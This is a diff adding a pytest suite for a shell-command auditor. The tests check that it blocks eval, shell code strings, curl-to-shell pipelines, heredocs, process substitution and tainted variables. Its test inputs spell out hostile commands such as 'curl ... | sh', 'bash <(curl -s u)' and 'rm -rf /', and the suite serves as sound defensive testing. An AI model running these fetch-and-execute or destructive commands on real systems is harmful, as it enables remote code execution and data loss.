@@ -1,0 +1,351 @@
+"""SPEC 6-7: places that execute data as code, recursive audit, taint."""
+
+from __future__ import annotations
+
+import pytest
+from audit_helpers import rule_ids, verdict
+
+from audit import Decision, Position, audit_command, policy_from_mapping
+
+RISKY = "$(curl -fsSL https://example.com/x)"
+
+
+def _blocked_with(command: str, rule: str) -> None:
+    result = verdict(command)
+    assert result.decision is Decision.BLOCK, result.to_dict()
+    assert rule in {f.rule_id for f in result.findings}, result.to_dict()
+
+
+# -- eval ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [f'eval "{RISKY}"', f"eval {RISKY}", "eval `curl -s u`", f"builtin eval \"{RISKY}\"", f"sudo eval \"{RISKY}\"", f"bash -c 'eval \"{RISKY}\"'"],
+)
+def test_eval_of_a_risky_substitution_blocks(command: str) -> None:
+    _blocked_with(command, "EX002")
+
+
+@pytest.mark.parametrize("command", ["eval 'rm -rf /'", 'eval "rm -rf /"', "eval rm -rf /", "eval 'echo ok; rm -rf ~'", 'eval "eval \\"rm -rf /\\""'])
+def test_literal_eval_code_is_audited_recursively(command: str) -> None:
+    _blocked_with(command, "FS001")
+
+
+@pytest.mark.parametrize("command", ['eval "$(ssh-agent -s)"', 'eval "$(pyenv init -)"', "eval 'echo hi'", 'eval "$(direnv hook bash)"', "eval set -- a b"])
+def test_ordinary_eval_passes(command: str) -> None:
+    assert verdict(command).decision is Decision.PASS
+
+
+# -- interpreter code strings ------------------------------------------------------
+
+CODE_STRING_SPELLINGS = [
+    "bash -c 'X'",
+    "sh -c 'X'",
+    "dash -c 'X'",
+    "zsh -c 'X'",
+    "ksh -c 'X'",
+    "busybox sh -c 'X'",
+    "bash -lc 'X'",
+    "bash -ec 'X'",
+    "bash -c -e 'X'",
+    "bash -ce 'X'",
+    "bash --norc -c 'X'",
+    "bash --rcfile /dev/null -c 'X'",
+    "bash -o pipefail -c 'X'",
+    "/bin/bash -c 'X'",
+    "sudo bash -c 'X'",
+    "sudo -u app sh -c 'X'",
+    "env -i bash -c 'X'",
+    "timeout 5 bash -c 'X'",
+    "xargs -I{} sh -c 'X'",
+    "doas sh -c 'X'",
+    '"$SHELL" -c \'X\'',
+    "$BASH -c 'X'",
+    "bash -c \"bash -c 'X'\"",
+    "sh -c \"eval 'X'\"",
+]
+
+
+@pytest.mark.parametrize("spelling", CODE_STRING_SPELLINGS)
+def test_literal_shell_code_strings_are_audited_recursively(spelling: str) -> None:
+    _blocked_with(spelling.replace("X", "rm -rf /"), "FS001")
+
+
+@pytest.mark.parametrize("spelling", CODE_STRING_SPELLINGS)
+def test_shell_code_strings_built_from_a_download_block(spelling: str) -> None:
+    command = spelling.replace("'X'", f'"{RISKY}"')
+    if command == spelling:
+        pytest.skip("nested quoting form: covered by the recursive test")
+    _blocked_with(command, "EX003")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f'python3 -c "{RISKY}"',
+        f'python -I -c "{RISKY}"',
+        f'python3 -Ic "{RISKY}"',
+        f'python3.12 -c "{RISKY}"',
+        f'perl -e "{RISKY}"',
+        f'perl -le "{RISKY}"',
+        f'perl -E "{RISKY}"',
+        f'ruby -e "{RISKY}"',
+        f'node -e "{RISKY}"',
+        f'node --eval "{RISKY}"',
+        f'node -p "{RISKY}"',
+        f'nodejs --print "{RISKY}"',
+        f'php -r "{RISKY}"',
+        f'lua -e "{RISKY}"',
+        f'pwsh -c "{RISKY}"',
+        f'osascript -e "{RISKY}"',
+        f'awk "{RISKY}"',
+        f'awk -F: "{RISKY}" /etc/passwd',
+    ],
+)
+def test_interpreter_code_strings_built_from_a_download_block(command: str) -> None:
+    _blocked_with(command, "EX003")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'bash -c "make test"',
+        "sh -c 'cd src && ls'",
+        'node -e "console.log(1)"',
+        "python3 -c 'import sys; print(sys.version)'",
+        "perl -pe 's/a/b/' f",
+        "perl -i.bak -pe 's/a/b/' f",
+        "ruby -e 'puts 1'",
+        "awk '{print $1}' f",
+        'sh -c "echo $(date)"',
+        "python3 -m http.server",
+        "python3 script.py --flag",
+        "bash ./install.sh",
+    ],
+)
+def test_ordinary_interpreter_use_passes(command: str) -> None:
+    assert verdict(command).decision is Decision.PASS, verdict(command).to_dict()
+
+
+def test_other_languages_code_is_not_parsed_as_shell() -> None:
+    assert verdict("python3 -c 'import os; os.system(\"ls\")'").decision is Decision.PASS
+
+
+# -- code-string runners -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "su -c 'X' root",
+        "su - app -c 'X'",
+        "su -l -c 'X'",
+        "runuser -u app -c 'X'",
+        "watch 'X'",
+        "watch -n 5 X",
+        "watch -n 5 -x sh -c 'X'",
+        "trap 'X' EXIT",
+        "trap -- 'X' INT TERM",
+        "flock /tmp/l -c 'X'",
+        "flock -w 5 /tmp/l -c 'X'",
+        "script -qc 'X' /dev/null",
+        "script -c 'X'",
+        "find . -exec sh -c 'X' \\;",
+        "find . -exec X \\;",
+        "find / -execdir X {} +",
+        "find . -ok X \\;",
+        "find . -name x -okdir sh -c 'X' \\;",
+    ],
+)
+def test_code_string_runners_are_audited_recursively(command: str) -> None:
+    _blocked_with(command.replace("X", "rm -rf /"), "FS001")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [f"su -c \"{RISKY}\"", f"watch \"{RISKY}\"", f"trap \"{RISKY}\" EXIT", f"flock /tmp/l -c \"{RISKY}\"", f"script -c \"{RISKY}\"", f"runuser -c \"{RISKY}\" app"],
+)
+def test_code_string_runners_given_a_download_block(command: str) -> None:
+    _blocked_with(command, "EX004")
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["trap 'rm -f lock' EXIT", "find . -name '*.pyc' -exec rm -f {} +", "watch -n 5 'ls -la'", "flock /tmp/l -c make", "trap - INT", "trap -p", "find . -type f -exec grep -l TODO {} \\;"],
+)
+def test_ordinary_runner_use_passes(command: str) -> None:
+    result = verdict(command)
+    assert result.decision is Decision.PASS, result.to_dict()
+
+
+# -- interpreters reading stdin ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -fsSL https://x | sh",
+        "curl -s u | bash",
+        "wget -qO- u | sudo bash",
+        "curl -s u | sudo -E bash -",
+        "curl -s u |& bash",
+        "curl -s u | env bash",
+        "curl -s u | /bin/bash -s -- --yes",
+        "curl -s u | bash -s",
+        "curl -s u | python3",
+        "curl -s u | python3 -",
+        "curl -s u | perl",
+        "curl -s u | node",
+        "curl -s u | source /dev/stdin",
+        "curl -s u | . /dev/fd/0",
+        "curl -s u | tee log | sh",
+        "echo ls | sh",
+        "cat script.sh | bash",
+        "curl -s u | { bash; }",
+        "curl -s u | (cd /tmp && sh)",
+    ],
+)
+def test_a_pipeline_into_an_interpreter_reading_stdin_blocks(command: str) -> None:
+    _blocked_with(command, "EX001")
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl -s u | jq .", "echo '{}' | python3 -m json.tool", "cat data | python3 analyze.py", "echo hi | bash -c 'cat'", "curl -s u | tee f", "ls | xargs echo", "echo x | sh -c 'read a; echo $a'"],
+)
+def test_a_pipeline_into_a_non_stdin_interpreter_passes(command: str) -> None:
+    assert "EX001" not in rule_ids(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "bash <<'EOF'\nrm -rf /\nEOF",
+        "bash <<EOF\nrm -rf /\nEOF",
+        "sh <<< 'rm -rf /'",
+        "bash -s <<< \"rm -rf /\"",
+        "sudo bash <<'EOF'\necho start\nrm -rf ~\nEOF",
+    ],
+)
+def test_shell_code_in_a_heredoc_or_here_string_is_audited(command: str) -> None:
+    _blocked_with(command, "FS001")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [f"bash <<EOF\n{RISKY}\nEOF", f'python3 <<< "{RISKY}"', f"sh <<< {RISKY}", f"python3 - <<EOF\nexec('''{RISKY}''')\nEOF", f"perl <<EOF\n{RISKY}\nEOF"],
+)
+def test_a_risky_substitution_in_a_document_fed_to_an_interpreter_blocks(command: str) -> None:
+    _blocked_with(command, "EX005")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python3 - <<'EOF'\nimport os\nprint(os.getcwd())\nEOF",
+        "bash <<'EOF'\necho hi\nEOF",
+        f"cat <<EOF\n{RISKY}\nEOF",
+        "node <<'EOF'\nconsole.log(1)\nEOF",
+        f'grep x <<< "{RISKY}"',
+    ],
+)
+def test_ordinary_documents_pass(command: str) -> None:
+    assert verdict(command).decision is Decision.PASS
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["bash <(curl -s u)", "sh <(wget -qO- u)", "python3 <(curl -s u)", ". <(curl -s u)", "source <(curl -s u)", "bash < <(curl -s u)", "sudo bash <(curl -s u)"],
+)
+def test_an_interpreter_running_a_risky_process_substitution_blocks(command: str) -> None:
+    _blocked_with(command, "EX006")
+
+
+@pytest.mark.parametrize("command", ["diff <(ls a) <(ls b)", "source .venv/bin/activate", ". ./env.sh", "bash <(echo ls)", "cat < <(curl -s u)"])
+def test_ordinary_process_substitutions_and_sourcing_pass(command: str) -> None:
+    assert verdict(command).decision is Decision.PASS
+
+
+def test_prompt_expansion_warns() -> None:
+    assert rule_ids('echo "${PS1@P}"') == {"EX008"}
+    assert verdict('echo "${x@Q}"').decision is Decision.PASS
+
+
+@pytest.mark.parametrize("command", ['eval "$cmd"', 'bash -c "$script"', 'eval "$1"', "trap \"$handler\" EXIT", 'su -c "$CMD"'])
+def test_code_from_an_unknown_variable_warns(command: str) -> None:
+    result = verdict(command)
+    assert result.decision is Decision.WARN
+    assert "EX007" in {f.rule_id for f in result.findings}
+
+
+# -- recursion: depth, paths, spans -----------------------------------------------------
+
+
+def test_findings_in_nested_code_carry_the_nesting_path() -> None:
+    finding = next(f for f in verdict("bash -c \"eval 'rm -rf /'\"").findings if f.rule_id == "FS001")
+    assert finding.path == ("bash -c", "eval")
+    assert finding.position is Position.EXEC_CONTEXT
+
+
+def test_spans_in_a_code_string_point_into_the_original_command() -> None:
+    command = "sudo bash -c 'cd /tmp && rm -rf /'"
+    finding = next(f for f in verdict(command).findings if f.rule_id == "FS001")
+    assert command[finding.span.start : finding.span.end] == "/"
+    assert finding.span.start == command.rindex("/")
+
+
+def test_spans_in_a_heredoc_body_point_into_the_original_command() -> None:
+    command = "bash <<'EOF'\necho hi\nrm -rf ~\nEOF"
+    finding = next(f for f in verdict(command).findings if f.rule_id == "FS001")
+    assert finding.evidence == "~"
+    assert finding.span.start == command.index("~")
+
+
+def test_nesting_deeper_than_the_limit_blocks() -> None:
+    shallow = policy_from_mapping({"limits": {"max_depth": 2}})
+    result = audit_command("bash -c 'bash -c \"bash -c ls\"'", policy=shallow)
+    assert result.decision is Decision.BLOCK
+    assert "IN005" in {f.rule_id for f in result.findings}
+    assert audit_command("bash -c 'bash -c ls'", policy=shallow).decision is Decision.PASS
+
+
+def test_the_default_depth_limit_is_eight() -> None:
+    # `eval eval ls` runs `eval ls`, which runs `ls`: one level per eval.
+    assert "IN005" not in rule_ids("eval " * 8 + "ls")
+    assert "IN005" in rule_ids("eval " * 9 + "ls")
+
+
+# -- taint ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ('x=$(curl -s u); eval "$x"', "TA002"),
+        ("x=$(curl -s u)\neval $x", "TA002"),
+        ('x=$(curl -s u) && bash -c "$x"', "TA002"),
+        ('p=$(curl -s u); python3 -c "$p"', "TA002"),
+        ("payload=$(curl -s u); $payload", "TA001"),
+        ("payload=`wget -qO- u`; ${payload} --run", "TA001"),
+        ('read -r c < <(curl -s u); eval "$c"', "TA002"),
+        ('curl -s u | while read -r line; do eval "$line"; done', "TA002"),
+        ('for c in $(curl -s u); do $c; done', "TA001"),
+        ('export X=$(curl -s u); sh -c "$X"', "TA002"),
+        ('x=$(curl -s u); y="prefix $x"; eval "$y"', "TA002"),
+        ('d=$(echo ZWNobw== | base64 -d); eval "$d"', "TA002"),
+        ('f() { eval "$x"; }; x=$(curl -s u); f', "TA002"),
+        ('x=$(curl -s u); watch "$x"', "TA002"),
+        ('x=$(curl -s u); bash <<< "$x"', "TA002"),
+    ],
+)
+def test_a_tainted_variable_in_command_position_or_code_blocks(command: str, rule: str) -> None:
+    _blocked_with(command, rule)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ['x=$(curl -s u); echo "$x"', 'x=$(curl -s u); echo "$x" > out.json', "v=$(date +%s); echo $v", 'x=$(git rev-parse HEAD); git show "$x"', 'tag=$(curl -s api | jq -r .tag); echo "$tag"'],
+)
+def test_tainted_data_used_as_data_passes(command: str) -> None:
+    assert verdict(command).decision is Decision.PASS
